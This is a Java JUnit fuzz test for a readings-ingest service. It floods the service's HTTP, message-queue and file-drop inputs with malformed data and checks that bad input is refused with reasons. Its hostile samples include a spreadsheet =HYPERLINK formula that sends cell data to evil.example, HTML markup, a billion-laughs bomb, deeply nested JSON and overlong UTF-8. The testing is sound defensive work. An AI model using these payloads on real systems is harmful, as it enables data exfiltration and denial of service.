package targetwatch.routes;

import static org.awaitility.Awaitility.await;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static targetwatch.routes.RunningTargetwatch.PATIENCE;

import java.io.IOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.security.SecureRandom;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;
import java.util.TreeMap;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import java.util.stream.StreamSupport;

import javax.crypto.SecretKeyFactory;
import javax.crypto.spec.PBEKeySpec;

import jakarta.jms.BytesMessage;
import jakarta.jms.Connection;
import jakarta.jms.JMSException;
import jakarta.jms.MapMessage;
import jakarta.jms.Message;
import jakarta.jms.MessageProducer;
import jakarta.jms.Session;
import jakarta.jms.StreamMessage;
import jakarta.jms.TextMessage;
import jakarta.mail.Address;
import jakarta.mail.BodyPart;
import jakarta.mail.MessagingException;
import jakarta.mail.Multipart;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeMessage;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

import com.fasterxml.jackson.databind.JsonNode;
import com.icegreen.greenmail.junit5.GreenMailExtension;
import com.icegreen.greenmail.util.ServerSetupTest;

import targetwatch.routes.HostileInputs.Bad;
import targetwatch.routes.HostileInputs.BadRow;
import targetwatch.routes.service.IngestService;

/**
 * Fuzz-style: at least a thousand generated malformed and hostile inputs through each source (HTTP, the
 * readings queue, the file drop), a valid reading after every ten of them. The service stays up; each bad
 * input ends in its source's dead-letter place with a reason that names what is wrong (an HTTP 400, 413 or
 * 415; the queue targetwatch.readings.DLQ with the TargetwatchReason property; inbox/failed/ with a .errors
 * report naming the row) and is counted on /api/health; and every valid reading is stored and assessed.
 *
 * <p>The inputs come from {@link HostileInputs} with a fixed seed; run with {@code -Dtargetwatch.test.fuzz-seed=N}
 * for other ones.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class FuzzEndToEndTest {

    /** How many malformed inputs each source gets. */
    static final int MALFORMED_PER_SOURCE = 1_000;
    /** A valid reading follows every this many malformed inputs. */
    static final int VALID_EVERY = 10;
    /** How many malformed rows each dropped CSV file holds. */
    static final int BAD_ROWS_PER_FILE = 25;

    private static final long SEED = Long.getLong("targetwatch.test.fuzz-seed", 20180331L);
    private static final String KSI = "ksi-casualties";
    private static final String KSI_LEAD = "nick.silvester@example.org";
    /** How long a thousand inputs may take to go through on a slow, busy build machine. */
    private static final Duration THOUSAND_INPUTS = Duration.ofMinutes(3);

    @RegisterExtension
    static final GreenMailExtension MAIL = new GreenMailExtension(ServerSetupTest.SMTP.dynamicPort())
            .withPerMethodLifecycle(false);

    private RunningTargetwatch app;
    private IngestService service;

    @BeforeAll
    void startTargetwatch(@TempDir Path data) throws Exception {
        writeUsersWithCheapHashes(data);
        app = RunningTargetwatch.start(data, Optional.of(MAIL.getSmtp().getPort()));
        service = app.bean(targetwatch.routes.service.Tenants.class).first().ingest();
    }

    @AfterAll
    void stopTargetwatch() {
        if (app != null) {
            app.close();
        }
    }

    // ---- HTTP

    @Test
    void a_thousand_malformed_and_hostile_posts_among_valid_readings_are_each_refused_with_400_413_or_415_and_a_reason_and_every_valid_reading_is_taken()
            throws Exception {
        HostileInputs inputs = new HostileInputs(SEED);
        Before before = before();
        List<String> valid = new ArrayList<>();
        List<String> wrong = new ArrayList<>();
        // when a thousand malformed inputs are posted, a valid reading after every ten
        for (int n = 0; n < MALFORMED_PER_SOURCE; n++) {
            Bad bad = inputs.json(n);
            HttpResponse<String> response = post(bad.contentType(), bad.body());
            // then each is refused with its status and a reason naming what is wrong
            String reason = reasonIn(response);
            if (response.statusCode() != bad.httpStatus() || reason.isBlank()
                    || (bad.reason() != null && !reason.contains(bad.reason()))) {
                wrong.add(describe(bad) + " got " + response.statusCode() + " " + abbreviate(reason));
            }
            if ((n + 1) % VALID_EVERY == 0) {
                String area = "fuzz-http-ok-" + n;
                HttpResponse<String> ok = post("application/json", inputs.validJson(area).getBytes(StandardCharsets.UTF_8));
                if (ok.statusCode() != 202) {
                    wrong.add("valid reading " + area + " got " + ok.statusCode() + " " + abbreviate(ok.body()));
                }
                valid.add(area);
            }
        }
        assertNothingWrong(wrong);

        // and every valid reading was stored and assessed, every bad input counted, and the service is up
        assertValidReadingsTakenAndBadOnesCounted(before, valid, MALFORMED_PER_SOURCE);
    }

    // ---- the readings queue

    @Test
    void a_thousand_malformed_and_hostile_messages_among_valid_readings_on_the_queue_each_go_to_the_dead_letter_queue_with_a_reason_and_every_valid_reading_is_taken()
            throws Exception {
        HostileInputs inputs = new HostileInputs(SEED + 1);
        Before before = before();
        List<Bad> bad = new ArrayList<>();
        List<String> valid = new ArrayList<>();
        try (DeadLetters deadLetters = new DeadLetters(app)) {
            // when a partner sends a thousand malformed messages, a valid reading after every ten
            try (Connection c = app.partnerClient().createConnection()) {
                Session session = c.createSession(true, Session.SESSION_TRANSACTED);
                MessageProducer producer = session.createProducer(session.createQueue("targetwatch.readings"));
                for (int n = 0; n < MALFORMED_PER_SOURCE; n++) {
                    Bad b = inputs.json(n);
                    bad.add(b);
                    Message m = message(session, b);
                    m.setIntProperty(DeadLetters.ID, n);
                    producer.send(m);
                    if ((n + 1) % VALID_EVERY == 0) {
                        String area = "fuzz-jms-ok-" + n;
                        producer.send(session.createTextMessage(inputs.validJson(area)));
                        valid.add(area);
                        session.commit();
                    }
                }
                session.commit();
            }

            // then each lands on the dead-letter queue with a reason naming what is wrong
            await("a thousand dead letters and " + valid.size() + " readings stored").atMost(THOUSAND_INPUTS)
                    .untilAsserted(() -> {
                        List<String> missing = bad.stream().filter(b -> deadLetters.forId(b.id()).isEmpty())
                                .map(FuzzEndToEndTest::describe).toList();
                        long stored = service.store().readingCount() - before.readings();
                        assertTrue(missing.isEmpty() && stored >= valid.size(), missing.size() + " not yet on the dead-letter queue, "
                                + stored + " readings stored; missing such as:\n  "
                                + String.join("\n  ", missing.subList(0, Math.min(10, missing.size()))));
                    });
            deadLetters.awaitQuiet();
            List<String> wrong = new ArrayList<>();
            deadLetters.unlabelled().forEach(m -> wrong.add("a dead letter that was no malformed input: " + m));
            for (Bad b : bad) {
                List<DeadLetters.Letter> letters = deadLetters.forId(b.id());
                if (letters.size() != 1) {
                    wrong.add(describe(b) + " is on the dead-letter queue " + letters.size() + " times");
                    continue;
                }
                DeadLetters.Letter letter = letters.get(0);
                if (letter.reason() == null || letter.reason().isBlank()
                        || (b.reason() != null && !letter.reason().contains(b.reason()))) {
                    wrong.add(describe(b) + " dead-lettered with the reason " + letter.reason());
                } else if (b.jms() == HostileInputs.JmsKind.TEXT && !b.text().equals(letter.body())
                        && !(letter.body().isEmpty() && letter.reason().contains("larger than the limit"))) {
                    // a message refused on its declared size is dead-lettered without its body, which is never read
                    wrong.add(describe(b) + " dead-lettered with another body: " + abbreviate(String.valueOf(letter.body())));
                }
            }
            assertNothingWrong(wrong);
        }

        // and every valid reading was stored and assessed, every bad message counted, and the service is up
        assertValidReadingsTakenAndBadOnesCounted(before, valid, MALFORMED_PER_SOURCE);
    }

    // ---- the file drop

    @Test
    void a_thousand_malformed_and_hostile_rows_and_files_dropped_among_valid_readings_each_end_in_inbox_failed_with_a_report_naming_the_row_and_every_valid_reading_is_taken()
            throws Exception {
        HostileInputs inputs = new HostileInputs(SEED + 2);
        Before before = before();
        List<DroppedFile> files = new ArrayList<>();
        List<String> valid = new ArrayList<>();
        // given forty CSV files of 25 malformed rows each, a valid row after every ten malformed ones
        int n = 0;
        for (int f = 0; n < MALFORMED_PER_SOURCE; f++) {
            DroppedFile file = new DroppedFile("fuzz-" + f + ".csv");
            StringBuilder csv = new StringBuilder(Readings.CSV_HEADER).append('\n');
            int row = 1;
            for (int i = 0; i < BAD_ROWS_PER_FILE && n < MALFORMED_PER_SOURCE; i++, n++) {
                BadRow bad = inputs.csvRow(n);
                csv.append(bad.row()).append('\n');
                file.refused.put(++row, bad.reason());
                file.what.put(row, bad.what());
                if ((n + 1) % VALID_EVERY == 0) {
                    String area = "fuzz-file-ok-" + n;
                    csv.append(inputs.validCsvRow(area)).append('\n');
                    row++;
                    file.taken++;
                    valid.add(area);
                }
            }
            file.content = csv.toString().getBytes(StandardCharsets.UTF_8);
            files.add(file);
        }
        // and whole files that are hostile, some with valid readings around the harm
        files.addAll(hostileFiles(inputs, valid));

        // when they are all dropped into the inbox
        for (DroppedFile file : files) {
            drop(file.name, file.content);
        }

        // then each moves to inbox/failed/ with a report giving the count taken and refused, and each refused row and why
        Path failed = app.inbox().resolve("failed");
        await("all " + files.size() + " files in inbox/failed with their reports").atMost(THOUSAND_INPUTS)
                .untilAsserted(() -> {
                    List<String> waiting = files.stream().map(f -> f.name)
                            .filter(name -> !Files.exists(failed.resolve(name)) || !Files.exists(failed.resolve(name + ".errors")))
                            .toList();
                    assertTrue(waiting.isEmpty(), waiting.size() + " files not yet in inbox/failed: " + waiting);
                });
        List<String> wrong = new ArrayList<>();
        int refusedRows = 0;
        for (DroppedFile file : files) {
            String report = Files.readString(failed.resolve(file.name + ".errors"), StandardCharsets.UTF_8);
            String counts = "# " + file.name + ": " + file.taken + " reading(s) taken, " + file.refused.size() + " row(s) refused";
            if (!report.startsWith(counts)) {
                wrong.add(file.name + ": the report does not begin \"" + counts + "\": " + abbreviate(report.lines().findFirst().orElse("")));
            }
            List<String> lines = report.lines().toList();
            for (Map.Entry<Integer, String> refused : file.refused.entrySet()) {
                String prefix = file.name + ":" + refused.getKey() + ": ";
                Optional<String> line = lines.stream().filter(l -> l.startsWith(prefix)).findFirst();
                if (line.isEmpty() || !line.get().contains(refused.getValue())) {
                    wrong.add(prefix + file.what.get(refused.getKey()) + ": expected a reason with \"" + refused.getValue()
                            + "\", got " + line.map(FuzzEndToEndTest::abbreviate).orElse("no line"));
                }
            }
            refusedRows += file.refused.size();
            assertFalse(Files.exists(app.inbox().resolve("done").resolve(file.name)), file.name + " also in inbox/done");
        }
        assertNothingWrong(wrong);
        assertTrue(refusedRows >= MALFORMED_PER_SOURCE, refusedRows + " malformed rows and files");

        // and every valid reading was stored and assessed, every failed file counted, and the service is up
        assertValidReadingsTakenAndBadOnesCounted(before, valid, files.size());
    }

    /** Files that are hostile as a whole; the valid readings in them (before the harm, or around it) are added to {@code valid}. */
    private static List<DroppedFile> hostileFiles(HostileInputs inputs, List<String> valid) {
        List<DroppedFile> files = new ArrayList<>();
        String header = Readings.CSV_HEADER + "\n";

        DroppedFile tenMb = new DroppedFile("fuzz-ten-megabyte-line.csv");
        String around1 = "fuzz-file-ok-before-long-line";
        String around2 = "fuzz-file-ok-after-long-line";
        byte[] longLine = new byte[HostileInputs.TEN_MB];
        Arrays.fill(longLine, (byte) 'A');
        tenMb.content = HostileInputs.concat((header + inputs.validCsvRow(around1) + "\n").getBytes(StandardCharsets.UTF_8),
                longLine, ("\n" + inputs.validCsvRow(around2) + "\n").getBytes(StandardCharsets.UTF_8));
        tenMb.refused.put(3, "value is required");
        tenMb.taken = 2;
        valid.add(around1);
        valid.add(around2);
        files.add(tenMb);

        DroppedFile latin1 = new DroppedFile("fuzz-latin-1.csv");
        latin1.content = (header + HostileInputs.csv("maidstone", KSI, "fuzz-bad-latin-1", "2017", "30", "kfrs", "",
                "caf\u00e9 au lait, =HYPERLINK(\"x\")") + "\n").getBytes(StandardCharsets.ISO_8859_1);
        latin1.refused.put(0, "not UTF-8");
        files.add(latin1);

        DroppedFile garbage = new DroppedFile("fuzz-binary-garbage.csv");
        byte[] bytes = new byte[64 * 1024];
        new SecureRandom().nextBytes(bytes);
        for (int i = 0; i < bytes.length; i++) {
            bytes[i] = (byte) (bytes[i] | 0x80);
        }
        garbage.content = bytes;
        garbage.refused.put(0, "not UTF-8");
        files.add(garbage);

        DroppedFile unclosed = new DroppedFile("fuzz-unclosed-quote.csv");
        String beforeQuote = "fuzz-file-ok-before-unclosed-quote";
        unclosed.content = (header + inputs.validCsvRow(beforeQuote) + "\n"
                + "maidstone,ksi-casualties,fuzz-bad-quote,2017,30,kfrs,,\"=HYPERLINK(\"\"x\"\")\n").getBytes(StandardCharsets.UTF_8);
        unclosed.refused.put(3, "unreadable CSV");
        unclosed.taken = 1;
        valid.add(beforeQuote);
        files.add(unclosed);

        DroppedFile noColumns = new DroppedFile("fuzz-missing-columns.csv");
        noColumns.content = "indicator,area,value\nksi-casualties,fuzz-bad-columns,30\n".getBytes(StandardCharsets.UTF_8);
        noColumns.refused.put(1, "the header lacks the columns period, source");
        files.add(noColumns);

        DroppedFile empty = new DroppedFile("fuzz-empty.csv");
        empty.content = new byte[0];
        empty.refused.put(1, "the header lacks the columns");
        files.add(empty);

        DroppedFile deep = new DroppedFile("fuzz-deep.json");
        deep.content = ("[".repeat(100_000) + "]".repeat(100_000)).getBytes(StandardCharsets.UTF_8);
        deep.refused.put(0, "malformed JSON");
        files.add(deep);

        DroppedFile repeated = new DroppedFile("fuzz-repeated-keys.json");
        repeated.content = ("{" + "\"note\":\"x\",".repeat(100_000) + "\"value\":30}").getBytes(StandardCharsets.UTF_8);
        repeated.refused.put(0, "malformed JSON");
        files.add(repeated);

        DroppedFile bomb = new DroppedFile("fuzz-billion-laughs.json");
        bomb.content = HostileInputs.BILLION_LAUGHS.getBytes(StandardCharsets.UTF_8);
        bomb.refused.put(0, "malformed JSON");
        files.add(bomb);

        DroppedFile overlong = new DroppedFile("fuzz-overlong-utf-8.json");
        overlong.content = HostileInputs.concat(("{\"indicator\":\"ksi-casualties\",\"area\":\"fuzz-bad-overlong\",\"period\":\"2017\","
                + "\"value\":30,\"source\":\"kfrs\",\"note\":\"..").getBytes(StandardCharsets.UTF_8),
                new byte[] {(byte) 0xC0, (byte) 0xAF}, "etc\"}".getBytes(StandardCharsets.UTF_8));
        overlong.refused.put(0, "UTF-8");
        files.add(overlong);

        DroppedFile mixed = new DroppedFile("fuzz-mixed.json");
        String first = "fuzz-file-ok-json-1";
        String third = "fuzz-file-ok-json-3";
        mixed.content = ("[" + inputs.validJson(first) + "," + HostileInputs.reading("burglary-rate", "fuzz-bad-json", "2017", "3",
                "kfrs", null, null) + "," + inputs.validJson(third) + ",{\"value\":[1]}]").getBytes(StandardCharsets.UTF_8);
        mixed.refused.put(2, "unknown indicator");
        mixed.refused.put(4, "plain value");
        mixed.taken = 2;
        valid.add(first);
        valid.add(third);
        files.add(mixed);
        return files;
    }

    /** A file the test drops: its content, what must be taken from it, and which rows refused with what words. */
    private static final class DroppedFile {
        final String name;
        byte[] content;
        int taken;
        final Map<Integer, String> refused = new TreeMap<>();
        final Map<Integer, String> what = new TreeMap<>();

        DroppedFile(String name) {
            this.name = name;
        }
    }

    // ---- a note that is a spreadsheet formula comes back escaped

    @Test
    void a_reading_whose_note_is_a_spreadsheet_formula_with_markup_is_taken_from_every_source_and_its_note_comes_back_escaped_in_the_alert_mail()
            throws Exception {
        String note = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"<b>Click</b>\")";
        // quoted as the partner's, its link defused (no mail reader makes it one)
        String escaped = "kfrs wrote: \u201c=HYPERLINK(&quot;http[:]//evil.example/?q=&quot;&amp;A1,&quot;&lt;b&gt;Click&lt;/b&gt;&quot;)\u201d";
        // when a RED reading with that note comes in by each source
        String reading = HostileInputs.reading(KSI, "fuzz-injection-http", "2017", "70", "kfrs", null, note);
        assertEquals(202, app.postReadings("lead", reading).statusCode());
        app.sendToReadingsQueue(HostileInputs.reading(KSI, "fuzz-injection-jms", "2017", "70", "kfrs", null, note));
        app.drop("fuzz-injection.csv", Readings.CSV_HEADER + "\n"
                + HostileInputs.csv("maidstone", KSI, "fuzz-injection-file", "2017", "70", "kfrs", "", note) + "\n");

        for (String area : List.of("fuzz-injection-http", "fuzz-injection-jms", "fuzz-injection-file")) {
            // then it is taken and rated RED
            assertEquals("RED", app.awaitAssessment(KSI, area, "2017").get("rating").asText());
            // and the lead's alert mail shows the note, escaped, never as markup or a link
            String html = await("the alert mail about " + area).atMost(PATIENCE)
                    .until(() -> mailHtml(area), Optional::isPresent).orElseThrow();
            assertAll(area,
                    // the mail's template escapes by context: in an element's text a quote needs no escaping, markup does
                    () -> assertTrue(html.contains(escaped) || html.contains(escaped.replace("&quot;", "\"")),
                            "the mail's HTML does not show the reading's note escaped ("
                            + escaped + "): " + html),
                    () -> assertFalse(html.contains("<b>Click</b>"), "the note's markup is live in the mail: " + html));
        }
    }

    private static Optional<String> mailHtml(String area) throws MessagingException, IOException {
        for (MimeMessage m : MAIL.getReceivedMessages()) {
            Address[] to = m.getAllRecipients();
            boolean toLead = to != null && Arrays.stream(to).anyMatch(a -> a instanceof InternetAddress i && KSI_LEAD.equals(i.getAddress()));
            if (toLead && m.getSubject().contains("(" + area + ",")) {
                Multipart parts = (Multipart) m.getContent();
                for (int i = 0; i < parts.getCount(); i++) {
                    BodyPart part = parts.getBodyPart(i);
                    if (part.isMimeType("text/html")) {
                        return Optional.of(part.getContent().toString());
                    }
                }
                throw new AssertionError("the mail about " + area + " has no HTML part");
            }
        }
        return Optional.empty();
    }

    // ---- what every source must show afterwards

    /** The readings stored and the inputs dead-lettered before a test's inputs. */
    private record Before(long readings, long deadLettered) {
    }

    private Before before() throws Exception {
        return new Before(service.store().readingCount(), health().get("readings").get("deadLettered").asLong());
    }

    /**
     * Every valid reading stored and assessed (none lost, none twice), {@code deadLettered} more inputs counted as
     * dead-lettered on /api/health, and the service up.
     */
    private void assertValidReadingsTakenAndBadOnesCounted(Before before, List<String> valid, int deadLettered) throws Exception {
        await(valid.size() + " valid readings stored").atMost(PATIENCE)
                .until(() -> service.store().readingCount() - before.readings() >= valid.size());
        assertEquals(valid.size(), service.store().readingCount() - before.readings(), "readings stored");
        Set<String> assessed = assessedAreas();
        List<String> missing = valid.stream().filter(a -> !assessed.contains(a)).toList();
        assertEquals(List.of(), missing, "valid readings not assessed in /api/status");

        HttpResponse<String> response = app.health();
        assertEquals(200, response.statusCode(), response.body());
        JsonNode health = RunningTargetwatch.json(response);
        assertAll("health",
                () -> assertEquals("UP", health.get("status").asText()),
                () -> assertEquals(before.deadLettered() + deadLettered, health.get("readings").get("deadLettered").asLong(),
                        "inputs counted as dead-lettered: " + health));
    }

    private Set<String> assessedAreas() throws Exception {
        HttpResponse<String> response = app.send(app.request("/api/status").header("Authorization", app.basicAuth("viewer")).GET().build());
        assertEquals(200, response.statusCode(), response.body());
        return StreamSupport.stream(RunningTargetwatch.json(response).get("assessments").spliterator(), false)
                .filter(a -> a.get("indicator").asText().equals(KSI) && a.get("period").asText().equals("2017"))
                .map(a -> a.get("area").asText()).collect(Collectors.toSet());
    }

    private JsonNode health() throws Exception {
        return RunningTargetwatch.json(app.health());
    }

    private static void assertNothingWrong(List<String> wrong) {
        assertTrue(wrong.isEmpty(), wrong.size() + " inputs went wrong, such as:\n  "
                + String.join("\n  ", wrong.subList(0, Math.min(wrong.size(), 25))));
    }

    private static String describe(Bad bad) {
        return "input " + bad.id() + " (" + bad.what() + ", " + bad.body().length + " bytes: "
                + abbreviate(bad.text()) + ")";
    }

    private static String abbreviate(String s) {
        String flat = s.replaceAll("\\p{Cntrl}", "?");
        return flat.length() <= 160 ? flat : flat.substring(0, 157) + "...";
    }

    // ---- HTTP

    private HttpResponse<String> post(String contentType, byte[] body) throws Exception {
        HttpRequest.Builder request = app.request("/api/readings").header("Authorization", app.basicAuth("lead"))
                .POST(HttpRequest.BodyPublishers.ofByteArray(body));
        if (contentType != null) {
            request.header("Content-Type", contentType);
        }
        return app.send(request.build());
    }

    /** The error of a refusal and the reason of each item in it, as one line. */
    private static String reasonIn(HttpResponse<String> response) {
        try {
            JsonNode problem = RunningTargetwatch.json(response);
            StringBuilder b = new StringBuilder(problem.path("error").asText(""));
            for (JsonNode d : problem.path("details")) {
                b.append("; item ").append(d.path("item").asText()).append(": ").append(d.path("reason").asText(""));
            }
            return b.toString();
        } catch (IOException e) {
            return response.body();
        }
    }

    // ---- JMS

    private static Message message(Session session, Bad bad) throws JMSException {
        switch (bad.jms()) {
            case TEXT:
                return session.createTextMessage(bad.text());
            case BYTES:
                BytesMessage bytes = session.createBytesMessage();
                bytes.writeBytes(bad.body());
                return bytes;
            case MAP:
                MapMessage map = session.createMapMessage();
                map.setString("indicator", KSI);
                map.setString("area", "fuzz-bad-" + bad.id());
                map.setString("period", "2017");
                map.setInt("value", 30);
                map.setString("source", "kfrs");
                return map;
            case OBJECT:
                return session.createObjectMessage(bad.text());
            case STREAM:
                StreamMessage stream = session.createStreamMessage();
                stream.writeString(bad.text());
                return stream;
            default:
                return session.createMessage();
        }
    }

    /** Takes everything from the dead-letter queue as it arrives, by the id the test gave each message. */
    private static final class DeadLetters implements AutoCloseable {

        static final String ID = "FuzzId";

        record Letter(String reason, String body) {
        }

        private final Connection connection;
        private final Map<Integer, List<Letter>> byId = new ConcurrentHashMap<>();
        private final List<String> unlabelled = new CopyOnWriteArrayList<>();

        DeadLetters(RunningTargetwatch app) throws JMSException {
            connection = app.adminClient().createConnection();
            Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
            session.createConsumer(session.createQueue("targetwatch.readings.DLQ")).setMessageListener(this::keep);
            connection.start();
        }

        private void keep(Message m) {
            try {
                String body = m instanceof TextMessage t ? t.getText() : m.getClass().getSimpleName();
                String reason = m.getStringProperty("TargetwatchReason");
                if (!m.propertyExists(ID)) {
                    unlabelled.add(abbreviate(String.valueOf(body)) + " (reason " + reason + ")");
                    return;
                }
                byId.computeIfAbsent(m.getIntProperty(ID), k -> new CopyOnWriteArrayList<>()).add(new Letter(reason, body));
            } catch (JMSException e) {
                unlabelled.add("an unreadable message: " + e);
            }
        }

        int count() {
            return byId.values().stream().mapToInt(List::size).sum() + unlabelled.size();
        }

        /** Waits until nothing more has arrived for a second (a message dead-lettered twice would show). */
        void awaitQuiet() {
            int[] last = {-1};
            await("the dead-letter queue quiet for a second").during(Duration.ofSeconds(1)).atMost(PATIENCE).until(() -> {
                int now = count();
                boolean same = now == last[0];
                last[0] = now;
                return same;
            });
        }

        List<Letter> forId(int id) {
            return byId.getOrDefault(id, List.of());
        }

        List<String> unlabelled() {
            return List.copyOf(unlabelled);
        }

        @Override
        public void close() throws JMSException {
            connection.close();
        }
    }

    // ---- the file drop

    /** Drops bytes into the inbox as ./targetwatch send does: written aside under a hidden name, then renamed. */
    private void drop(String name, byte[] content) throws IOException {
        Path inbox = Files.createDirectories(app.inbox());
        Path hidden = inbox.resolve("." + name + ".part");
        Files.write(hidden, content);
        Files.move(hidden, inbox.resolve(name), StandardCopyOption.ATOMIC_MOVE);
    }

    // ---- users

    /**
     * Writes the API users before the service starts: the demo users' lead and viewer, with their passwords in
     * demo-credentials.txt as the service writes them, but hashed with 1,000 PBKDF2 rounds instead of 120,000, so
     * that three thousand requests do not spend minutes checking passwords. The hash format is the service's own.
     */
    private static void writeUsersWithCheapHashes(Path data) throws Exception {
        StringBuilder users = new StringBuilder();
        StringBuilder credentials = new StringBuilder();
        for (String user : List.of("viewer", "lead")) {
            String password = "fuzz-" + user + "-" + Long.toHexString(new SecureRandom().nextLong());
            byte[] salt = new byte[16];
            new SecureRandom().nextBytes(salt);
            byte[] hash = SecretKeyFactory.getInstance("PBKDF2WithHmacSHA256")
                    .generateSecret(new PBEKeySpec(password.toCharArray(), salt, 1000, 256)).getEncoded();
            users.append(user).append('=').append(user).append(":pbkdf2-sha256$1000$")
                    .append(Base64.getEncoder().encodeToString(salt)).append('$')
                    .append(Base64.getEncoder().encodeToString(hash)).append('\n');
            credentials.append(user).append(": ").append(password).append('\n');
        }
        Files.writeString(data.resolve("users.properties"), users, StandardCharsets.UTF_8);
        Files.writeString(data.resolve("demo-credentials.txt"), credentials, StandardCharsets.UTF_8);
    }
}
